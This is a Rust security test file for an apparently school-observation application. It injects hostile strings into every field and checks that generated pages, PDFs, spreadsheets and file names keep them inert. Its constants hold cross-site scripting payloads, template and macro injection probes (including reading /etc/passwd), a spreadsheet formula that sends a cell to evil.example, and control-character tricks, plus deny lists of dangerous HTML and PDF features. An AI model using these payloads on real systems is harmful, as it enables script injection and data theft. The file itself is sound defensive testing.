//! Words that are more than words to whoever reads them carelessly: markup, formulas, macros, control characters. They
//! stand in everything that people write, and everything that is made of it is made: it says them and does nothing.

use std::collections::BTreeSet;

use alongside_api::file::FileView;
use alongside_tests::{Cast, Outsider};
use calamine::Reader as _;
use reqwest::StatusCode;
use serde_json::{Value, json};

use super::role::Role;
use super::stage::{Scene, Stage};

/// What breaks out of HTML, of an attribute, of a script, of a comment.
const MARKUP: &str = "zqplain </dd></p><script>alert(\"zq\")</script><img src=x onerror=alert(1)>\"><svg/onload=alert(2)>' autofocus \
                      onfocus=alert(3) x='&lt;b&gt;&#60;script&#62; javascript:alert(4) {{7*7}} ${7*7} <!-- --!> ]]> <a href=\"javascript:alert(5)\">here</a>";

/// What typesetting would run, read or stop at.
const MACROS: &str = "zqplain #eval(\"1+1\") #panic(\"zq\") #read(\"/etc/passwd\") #import \"x\": y\n= Heading\n$x^2$ `raw` ```rust x``` *bold* _it_ \
                      @reference <label> \\u{41} // comment /* open #let x = 1; #while true {} [unclosed #show: it => it";

/// What a spreadsheet would reckon, and what a table would break at.
const FORMULA: &str = "=HYPERLINK(\"http://evil.example/\"&A1,\"zqplain\")";

/// What a terminal or an eye would be led astray by, and what is too long for any line.
fn astray() -> String {
    let long = "W".repeat(1_200);
    format!(
        "zqplain \u{202e}drow\u{202c}\u{2066}x\u{2069} \u{7}\u{1b}[31m\u{1b}]0;title\u{7} \u{feff}\u{200b}\u{ad} \"a\",\"b\"\r\n\"c\";d\te {long} \u{10ffff}👩‍🏫e\u{301}\u{301}\u{301}"
    )
}

/// The school with these words wherever anybody writes, and with names that are as bad as names can be.
async fn said(words: &str) -> Scene {
    let scene = Scene::with_words(Stage::Published, Some(words)).await;
    let name: String = words
        .chars()
        .filter(|c| !c.is_control())
        .take(110)
        .collect();
    let leader = scene.client(Role::Leader);
    let named = |id: &dyn std::fmt::Display, kind: &str, fields: &[(&str, Value)]| {
        leader.record(&scene.hub, id, kind, fields)
    };
    let mut records = vec![
        named(&Cast::SCHOOL, "school", &[("name", json!(name))]),
        named(
            &Cast::ROOM,
            "room",
            &[("name", json!(name)), ("place", json!(words))],
        ),
        named(&scene.term, "term", &[("name", json!(name))]),
        named(
            &Cast::WALK,
            "walk",
            &[
                ("name", json!(name)),
                ("purpose", json!(words)),
                ("focus", json!(name)),
            ],
        ),
        named(&scene.draft, "template", &[("name", json!(name))]),
    ];
    let classes = [Cast::KESTREL, Cast::HERON]
        .into_iter()
        .chain(Cast::MORE.map(|(class, _)| class));
    for class in classes {
        let fields = [
            ("name", json!(name)),
            ("year_group", json!(name)),
            ("phase", json!(name)),
        ];
        records.push(named(&class, "class", &fields));
    }
    for visit in [Cast::VISIT, Cast::OTHER_VISIT]
        .into_iter()
        .chain(Cast::MORE_VISITS)
    {
        records.push(named(&visit, "visit", &[("subject", json!(name))]));
    }
    let answer = leader.push(&records).await;
    for (place, record) in records.iter().enumerate() {
        let count = record["fields"].as_object().unwrap().len();
        assert_eq!(answer.accepted(place).len(), count, "{answer:?}");
    }
    // People last: whoever is called as everything else is would be named by every focus.
    for role in Role::STAFF {
        let person = named(&role.person(), "person", &[("name", json!(name))]);
        assert_eq!(leader.push(&[person]).await.accepted(0), ["name"]);
    }
    scene
}

async fn answered(client: &Outsider, command: &str, request: Value) -> Value {
    let answer = client.rpc(command, request).await;
    assert_eq!(answer.status, StatusCode::OK, "{command}: {answer:?}");
    answer.body
}

/// A page that a browser opens from the disk: no tag in it but the page's own.
fn is_plain_page(page: &str, what: &str) {
    let own: BTreeSet<&str> = [
        "!doctype", "html", "head", "meta", "title", "style", "body", "header", "h1", "h2", "h3",
        "p", "main", "section", "article", "dl", "dt", "dd", "ul", "ol", "li", "table", "thead",
        "tbody", "tr", "th", "td", "div", "span", "footer", "time", "caption", "nav", "strong",
        "em", "br", "small",
    ]
    .into();
    for part in page.split('<').skip(1) {
        let tag = part.trim_start_matches('/');
        let name: String = tag
            .chars()
            .take_while(|c| c.is_alphanumeric() || *c == '!')
            .collect();
        assert!(
            own.contains(name.to_lowercase().as_str()),
            "{what}: <{}",
            part.chars().take(60).collect::<String>()
        );
        let inside = tag.split('>').next().unwrap_or_default().to_lowercase();
        for bad in [
            "onerror",
            "onload",
            "onfocus",
            "javascript:",
            "src=",
            "href=",
        ] {
            assert!(!inside.contains(bad), "{what}: <{inside}>");
        }
    }
    assert!(
        page.contains("default-src 'none'"),
        "{what} lets nothing be fetched"
    );
}

/// A PDF that opens, says the words, and has nothing in it that does anything.
fn is_plain_pdf(bytes: &[u8], what: &str) {
    let document =
        lopdf::Document::load_mem(bytes).unwrap_or_else(|error| panic!("{what}: {error}"));
    for object in document.objects.values() {
        let Ok(dictionary) = object.as_dict() else {
            continue;
        };
        for (key, value) in dictionary.iter() {
            let key = String::from_utf8_lossy(key);
            assert!(
                ![
                    "JS",
                    "JavaScript",
                    "OpenAction",
                    "AA",
                    "EmbeddedFiles",
                    "AcroForm",
                    "RichMedia"
                ]
                .contains(&key.as_ref()),
                "{what} has {key}"
            );
            if let Ok(name) = value.as_name() {
                let name = String::from_utf8_lossy(name);
                assert!(
                    !["URI", "Launch", "GoToR", "SubmitForm", "ImportData"]
                        .contains(&name.as_ref()),
                    "{what} has {name}"
                );
            }
        }
    }
    let pages: Vec<u32> = document.get_pages().keys().copied().collect();
    let text = document.extract_text(&pages).unwrap();
    let letters: String = text.chars().filter(char::is_ascii_alphanumeric).collect();
    assert!(letters.contains("zqplain"), "{what} does not say the words");
    assert!(!text.contains("root:x"), "{what} has read a file");
}

/// A cell that no spreadsheet takes for anything but words.
fn is_plain_cell(cell: &str, what: &str) {
    let first = cell.trim_start().chars().next();
    let is_number = cell.parse::<f64>().is_ok();
    let is_formula = matches!(
        first,
        Some('=' | '+' | '-' | '@' | '＝' | '＋' | '－' | '＠')
    ) && !is_number;
    assert!(
        !is_formula && !cell.starts_with(['\t', '\r']),
        "{what}: {cell:?}"
    );
}

fn bytes(file: &Value) -> Vec<u8> {
    let file: FileView = serde_json::from_value(file.clone()).unwrap();
    file.bytes().unwrap()
}

/// Makes all that can be made of a school, and looks at it.
async fn make_everything(words: &str) {
    let scene = said(words).await;
    let leader = scene.client(Role::Leader);
    let head = scene.client(Role::Head);
    // What people take away about themselves.
    for role in Role::STAFF {
        let client = scene.client(role);
        let what = format!("what is held about the {}", role.word());
        let page = answered(client, "held_take", json!({ "format": "html" })).await;
        is_plain_page(page["text"].as_str().unwrap(), &what);
        let file = answered(client, "held_take", json!({ "format": "json" })).await;
        let held: Value = serde_json::from_str(file["text"].as_str().unwrap()).unwrap();
        assert!(held.is_object(), "{what}");
        is_plain_name(&file, &what);
    }
    // Everything that is printed.
    let teacher = scene.client(Role::Teacher);
    for (client, asked) in [
        (leader, json!({ "what": "form", "visit": Cast::VISIT })),
        (teacher, json!({ "what": "form", "visit": Cast::VISIT })),
        (leader, json!({ "what": "review", "term": scene.term })),
        (leader, json!({ "what": "report", "walk": Cast::WALK })),
        (leader, json!({ "what": "self_evaluation", "year": 2026 })),
    ] {
        let file = answered(client, "file_make", asked.clone()).await;
        is_plain_pdf(&bytes(&file), &asked.to_string());
        is_plain_name(&file, &asked.to_string());
    }
    // Every table.
    for asked in [
        json!({ "what": "patterns", "walk": Cast::WALK, "table": "csv" }),
        json!({ "what": "patterns_over", "by": "phase", "group": null, "table": "csv" }),
        json!({ "what": "patterns", "walk": Cast::WALK, "table": "xlsx" }),
        json!({ "what": "patterns_over", "by": "year_group", "group": null, "table": "xlsx" }),
    ] {
        let file = answered(leader, "file_make", asked.clone()).await;
        let what = asked.to_string();
        is_plain_name(&file, &what);
        if asked["table"] == "csv" {
            let bytes = bytes(&file);
            let text = bytes.strip_prefix("\u{feff}".as_bytes()).unwrap_or(&bytes);
            let mut table = csv::ReaderBuilder::new()
                .has_headers(false)
                .flexible(true)
                .from_reader(text);
            let mut widths = BTreeSet::new();
            for line in table.records() {
                let line = line.unwrap();
                widths.insert(line.len());
                line.iter().for_each(|cell| is_plain_cell(cell, &what));
            }
            assert!(
                widths.len() <= 2,
                "{what}: no line was broken in two: {widths:?}"
            );
        } else {
            let mut book: calamine::Xlsx<_> =
                calamine::open_workbook_from_rs(std::io::Cursor::new(bytes(&file))).unwrap();
            for sheet in book.sheet_names() {
                let formulas = book.worksheet_formula(&sheet).unwrap();
                assert!(
                    formulas.rows().flatten().all(String::is_empty),
                    "{what}: {sheet}"
                );
            }
        }
    }
    // What another program reads.
    let archive = answered(head, "archive_make", json!({})).await;
    let archived: Value = serde_json::from_slice(&bytes(&archive)).unwrap();
    assert!(archived.to_string().contains("zqplain"));
    let form = answered(
        leader,
        "template_export",
        json!({ "template": scene.draft }),
    )
    .await;
    assert!(
        serde_json::from_slice::<Value>(&bytes(&form))
            .unwrap()
            .is_object()
    );
    // An invitation for somebody of that name: a picture of squares and nothing else.
    let invite = answered(
        leader,
        "device_invite",
        json!({ "person": Cast::TEACHER, "address": "127.0.0.1:8420" }),
    )
    .await;
    let path = invite["qr"]["path"].as_str().unwrap();
    assert!(
        path.chars()
            .all(|c| c.is_ascii_digit() || "MmHhVvZz -.,".contains(c)),
        "{path}"
    );
    // What screens are told, and in which form: words in JSON, which no browser takes for a page.
    for (command, asked) in [
        ("record_get", json!({ "visit": Cast::VISIT })),
        ("notice_list", json!({})),
        ("reminder_list", json!({})),
        ("search_find", json!({ "words": "zqplain", "kinds": [] })),
        (
            "search_find",
            json!({ "words": words.chars().take(100).collect::<String>(), "kinds": [] }),
        ),
        (
            "log_list",
            json!({ "before": null, "act": null, "person": null }),
        ),
        ("report_get", json!({ "of": Cast::WALK })),
        ("action_list", json!({})),
        ("concern_list", json!({})),
        ("school_get", json!({})),
    ] {
        let response = alongside_tests::http()
            .post(scene.hub.url(&format!("/rpc/{command}")))
            .bearer_auth(&head.token)
            .header("content-type", "application/json")
            .body(asked.to_string())
            .send()
            .await
            .unwrap();
        assert_eq!(response.status(), StatusCode::OK, "{command} {asked}");
        assert!(
            response.headers()["content-type"]
                .to_str()
                .unwrap()
                .starts_with("application/json")
        );
        assert_eq!(response.headers()["x-content-type-options"], "nosniff");
        response.json::<Value>().await.unwrap();
    }
}

/// The name of a file is a name and no path, of letters that every disk takes.
fn is_plain_name(file: &Value, what: &str) {
    let Some(name) = file["name"].as_str() else {
        return;
    };
    let is_plain = name
        .chars()
        .all(|c| c.is_alphanumeric() || "-_.".contains(c));
    assert!(
        is_plain && !name.contains("..") && !name.starts_with(['.', '-']) && name.len() < 200,
        "{what}: {name}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn markup_macros_and_formulas_in_every_text_are_words_in_all_that_is_made_of_it() {
    make_everything(&format!("{FORMULA} {MACROS} {MARKUP}")).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn control_characters_and_endless_words_in_every_text_are_words_in_all_that_is_made_of_it() {
    make_everything(&astray()).await;
}
